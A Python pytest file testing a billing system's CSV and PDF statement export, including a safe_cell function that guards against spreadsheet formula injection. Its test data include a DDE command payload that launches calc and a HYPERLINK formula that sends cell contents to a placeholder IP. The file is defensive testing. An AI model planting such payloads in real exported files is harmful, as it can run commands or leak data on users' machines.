"""The statement as files: the sums of the ledger, the words of the page, and nothing that a spreadsheet would run."""

import csv
import io
from dataclasses import replace
from datetime import date

import pytest

from billing.errors import BillingError
from billing.reports.statements import export
from billing.reports.statements.export import safe_cell, statement_csv, statement_pdf
from billing.reports.statements.statement import statement
from tests.support import pdf_reading
from tests.support.people import at, installation, party

NOW = at("2026-05-20 12:00")
MAY = {"start": date(2026, 5, 1), "end": date(2026, 5, 31)}


@pytest.fixture
def romashka(db):
    """Ten people in April and a payment of 1 000,00 on 10 May; the tenth costs 5 990,00 (M3)."""
    installation()
    romashka = party()
    romashka.activate(9, at("2026-04-10 14:03"))
    romashka.close(at("2026-05-01 00:10"))
    romashka.pay("1000.00", at("2026-05-10 11:00"))
    return romashka


def cells(data: bytes, separator: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def test_russian_csv_has_commas_in_sums_and_semicolons_between_them(romashka):
    rows = cells(statement_csv(statement(account=romashka.account), "ru"), ";")
    assert rows[0] == ["Дата", "Операция", "Расчёт и пояснение", "Сумма", "Остаток", "Валюта"]
    assert rows[1] == ["", "Остаток на начало", "", "", "0,00", "RUB"]
    assert rows[2][0] == "10.04.2026"
    assert rows[2][1] == "Пик вырос до 10"
    assert "10 × 599,00 = 5 990,00 ₽".replace(" ", "") in rows[2][2].replace("\u00a0", "").replace(
        "\u202f", ""
    ).replace(" ", "")
    assert [row[3:] for row in rows[2:]] == [
        ["-5990,00", "-5990,00", "RUB"],
        ["-5990,00", "-11980,00", "RUB"],
        ["1000,00", "-10980,00", "RUB"],
        ["", "-10980,00", "RUB"],
    ]
    assert rows[-1][1] == "Остаток на конец"


def test_english_csv_has_points_in_sums_and_commas_between_them(romashka):
    data = statement_csv(statement(account=romashka.account, **MAY), "en")
    rows = cells(data, ",")
    assert rows[0] == ["Date", "Operation", "Working and notes", "Amount", "Balance", "Currency"]
    assert rows[1] == ["", "Opening balance", "", "", "-5990.00", "RUB"]
    assert [row[0] for row in rows[2:]] == ["2026-05-01", "2026-05-10", ""]
    assert rows[2][1] == "Start of May: 10 active"
    assert rows[3][1] == "Payment: bank transfer"
    assert rows[-1] == ["", "Closing balance", "", "", "-10980.00", "RUB"]
    assert data.count(b"\r\n") == 5
    assert all(line.startswith('"') and line.endswith('"') for line in data.decode("utf-8-sig").splitlines())


PAYLOADS = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+7 900 000-00-00", "'+7 900 000-00-00"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'=1+1"),
    ("\r=1+1", "'=1+1"),
    ("\n=1+1", "'=1+1"),
    ("\ttab before a name", "'tab before a name"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("﹦1+1", "'﹦1+1"),
    ("  =1+1", "'=1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("\u200b=1+1", "'=1+1"),
    ("\ufeff=1+1", "'=1+1"),
    ("Anna;=1+1", "Anna;'=1+1"),
    ('Anna,"=1+1', "Anna,\"'=1+1"),
    ("Anna, @SUM(1)", "Anna, '@SUM(1)"),
    ('=HYPERLINK("http://203.0.113.1/?"&A1;"Открыть")', '\'=HYPERLINK("http://203.0.113.1/?"&A1;"Открыть")'),
    ("Anna = Petrova", "Anna = Petrova"),
    ("11 × 599,00 − 5 990,00 = 599,00 ₽", "11 × 599,00 − 5 990,00 = 599,00 ₽"),
    ("− 1 (a true minus is no formula)", "− 1 (a true minus is no formula)"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "safe"), PAYLOADS)
def test_no_cell_of_text_begins_a_formula(text, safe):
    assert safe_cell(text) == safe


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "-1;=1+1", '","=1+1'])
@pytest.mark.parametrize(("locale", "separator"), [("ru", ";"), ("en", ",")])
def test_a_members_name_is_no_formula_in_the_file(romashka, name, locale, separator):
    exported = statement(account=romashka.account)
    rows = tuple(replace(row, person=name) for row in exported.rows)
    data = statement_csv(replace(exported, rows=rows), locale)
    for other in (";", ",", "\t"):  # also as read by a spreadsheet that expects another separator
        first_characters = [cell.lstrip(' "')[:1] for row in cells(data, other) for cell in row if not _is_number(cell)]
        assert set(first_characters) & set("=+-@＝＋－＠") == set()


def _is_number(cell: str) -> bool:
    return cell.strip('"').removeprefix("-").replace(",", "").replace(".", "").isdigit()


@pytest.mark.parametrize("locale", ["ru", "en"])
def test_the_pdf_has_the_rows_of_the_ledger(romashka, locale):
    exported = statement(account=romashka.account, **MAY)
    pdf = statement_pdf(exported, locale=locale, as_of=NOW, **MAY)
    text = pdf_reading.text(pdf)
    expected = {
        "ru": (
            "за май 2026 г. · составлена 20 мая 2026 г.",
            "Остаток на начало дня 1 мая 2026 г. −5 990,00",
            "Начало мая: 10 активных",
            "10 × 599,00 = 5 990,00 ₽",
            "10.05.2026 Оплата: банковский перевод",
            "+1 000,00 −10 980,00",
            "Остаток на конец −10 980,00 ₽",
        ),
        "en": (
            "Statement of account",
            "for May 2026 · drawn up on 20 May 2026",
            "Opening balance, 1 May 2026 −5,990.00",
            "Start of May: 10 active",
            "10 × 599.00 = ₽5,990.00",
            "10 May 2026 Payment: bank transfer",
            "+1,000.00 −10,980.00",
            "Closing balance −₽10,980.00",
        ),
    }[locale]
    for words in expected:
        assert words in text
    assert statement_pdf(exported, locale=locale, as_of=NOW, **MAY) == pdf


def test_open_ends_are_the_opening_of_the_account_and_today(romashka):
    text = pdf_reading.text(statement_pdf(statement(account=romashka.account), locale="ru", as_of=NOW))
    assert "за 1 апреля – 20 мая 2026 г." in text
    assert "Остаток на начало дня 1 апреля 2026 г. 0,00" in text


def test_more_rows_than_can_be_printed_are_refused_and_never_left_out(romashka, monkeypatch):
    monkeypatch.setattr(export, "PRINTED_ROWS", 2)
    with pytest.raises(BillingError) as refused:
        statement_pdf(statement(account=romashka.account), locale="ru", as_of=NOW)
    assert refused.value.code == "statement_too_long"
    assert statement_csv(statement(account=romashka.account), "ru").count(b"\r\n") == 6
